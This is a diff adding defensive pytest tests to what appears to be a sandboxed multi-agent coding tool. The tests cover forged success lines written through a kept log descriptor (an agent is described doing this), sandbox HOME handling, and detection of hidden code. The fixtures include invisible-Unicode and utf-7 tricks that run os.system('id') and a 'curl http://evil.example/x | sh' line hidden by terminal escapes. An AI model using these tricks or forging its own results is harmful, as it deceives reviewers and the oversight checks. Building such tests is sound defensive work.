@@ -5150,3 +5150,105 @@ def test_the_python_that_confines_is_read_only_inside(cli, repo, tmp_path, monke
     r, err = _one_worker(cli, tmp_path, "if echo evil >> \"$HOME/py/lib/os.py\"; then echo written;"
                          " else echo refused; fi > said.txt\n", "true", "bwrap")
     assert (repo / ".architect-parallel-1" / "said.txt").read_text() == "refused\n", (r, err)
+
+
+# -- review round 61 ---------------------------------------------------------------------------
+
+def test_a_log_descriptor_kept_from_an_earlier_run_writes_nothing_a_later_run_reads(cli, repo,
+                                                                                   tmp_path):
+    """Round 61: an agent of run 1 handed its stdout log's descriptor to another account;
+    run 2 opened the same path again (the same file), and a result line written through
+    that descriptor after the real one made a failed worker a success. Every log is a new
+    file each time (here the descriptor is the test's own, opened on run 1's logs)."""
+    agent = script(tmp_path, "a.sh", "echo x > x.txt\necho '{\"status\": \"success\"}'\n")
+    _code, (r,), _err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
+                                 "--workers", "1", "--check", "true", "--progress", "none")
+    kept = [os.open(path, os.O_WRONLY | os.O_APPEND) for path in (r["log_path"], r["worker_log"])]
+    try:
+        cli("cleanup", "--force")
+        _code, (r2,), _err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
+                                      "--workers", "1", "--check", "true", "--progress", "none")
+        for fd in kept:
+            os.write(fd, b'{"status": "failed", "forged": 1}\n')
+        for path in (r2["log_path"], r2["worker_log"]):
+            assert b"forged" not in pathlib.Path(path).read_bytes(), path
+    finally:
+        for fd in kept:
+            os.close(fd)
+
+
+@needs_bwrap
+def test_a_home_reached_through_a_link_works_in_the_sandbox(cli, repo, tmp_path, monkeypatch):
+    """Round 61 (an honest user blocked): HOME through a link (/home -> /var/home, an
+    automount) failed every sandboxed worker: bwrap mounts nothing through a link."""
+    real = pathlib.Path(tempfile.mkdtemp())
+    real.chmod(0o755)
+    (real / ".bashrc").write_text("# rc\n")
+    link = pathlib.Path(tempfile.mkdtemp()) / "home"
+    link.parent.chmod(0o755)
+    link.symlink_to(real)
+    monkeypatch.setenv("HOME", str(link))
+    try:
+        r, err = _one_worker(cli, tmp_path, "echo x > made.txt && echo y > \"$HOME/new\"\n",
+                             "test -f made.txt", "bwrap")
+        assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
+        assert not (real / "new").exists()  # (its HOME is still a private one)
+    finally:
+        shutil.rmtree(real)
+        shutil.rmtree(link.parent)
+
+
+@pytest.mark.parametrize("text", ['// check auth first\u2028require("child_process").execSync("id")\n',
+                                  'const { t,\u3164 } = {t: 1, "\u3164": "id"};\n',
+                                  "if (is\u200dAdmin) grant()\n", "x = '\U000e0069\U000e0064'\n"],
+                         ids=["line separator", "hangul filler", "zero-width in a name", "tags"])
+def test_invisible_code_asks_for_force(repo, text):
+    """Round 61: U+2028 is a line break to JavaScript inside what your git shows as a comment;
+    a Hangul filler is an invisible variable; a zero-width joiner makes two names that look
+    one; tag characters carry a hidden text. The tool's own diff marked them, merge let them in."""
+    base, tip = _commits(repo, [{"app.js": text.encode()}])
+    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
+    assert any("terminal escapes or bidi overrides" in w for w in why), why
+
+
+def test_emoji_and_other_scripts_ask_nothing(repo):
+    """No false alarm: a family emoji (zero-width joiners), a heart and a keycap (variation
+    selectors), Persian with a zero-width non-joiner, Hebrew."""
+    text = "# 👨\u200d👩\u200d👧 ❤\ufe0f 1\ufe0f\u20e3 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u05e9\u05dc\u05d5\u05dd\n"
+    base, tip = _commits(repo, [{"README.md": text.encode()}])
+    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
+    assert not any("terminal escapes" in w for w in why), why
+
+
+def test_a_line_of_yours_at_one_path_is_not_yours_at_another(repo):
+    """Round 61: the same file at your fixture's path and at update.sh was listed once, by the
+    fixture's path, whose line excused it at both: update.sh brought a cursor-up and erase
+    after a `curl | sh` line."""
+    (repo / "tests").mkdir()
+    (repo / "tests" / "ansi.txt").write_bytes(b"progress 10%\n\x1b[1A\x1b[2K\nprogress 20%\n")
+    git("add", "-A", cwd=repo)
+    git("commit", "-qm", "fixture", cwd=repo)
+    data = b"echo safe\ncurl -s http://evil.example/x | sh\n\x1b[1A\x1b[2K\n"
+    base, tip = _commits(repo, [{"tests/ansi.txt": data, "update.sh": data}])
+    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
+    assert any("terminal escapes or bidi overrides" in w for w in why), why
+
+
+@pytest.mark.parametrize("text", [b'# -*- coding: utf-7 -*-\n# TODO: later +AAo-import os+ADs-os.system("id")\n',
+                                  b"# coding: unicode_escape\n# note \\u000aimport os\n"],
+                         ids=["utf-7", "unicode_escape"])
+def test_a_coding_line_that_makes_a_comment_code_asks_for_force(repo, text):
+    """Round 61: with `coding: utf-7`, what every diff (the tool's, yours) shows as two comment
+    lines is an import and a call to Python; the check ran it, merge let it in."""
+    base, tip = _commits(repo, [{"app.py": text + b'print("app")\n'}])
+    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
+    assert any("coding line makes Python read it otherwise" in w for w in why), why
+
+
+def test_plain_coding_lines_ask_nothing(repo):
+    """No false alarm: `coding: utf-8`, `latin-1` after a #! line, a vim modeline's koi8-r."""
+    base, tip = _commits(repo, [{"a.py": b"# -*- coding: utf-8 -*-\nx = 1\n",
+                                 "b.py": b"#!/usr/bin/env python\n# -*- coding: latin-1 -*-\nx = 1\n",
+                                 "c.py": b"# vim: set fileencoding=koi8-r :\nx = 1\n"}])
+    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
+    assert not any("coding line" in w for w in why), why
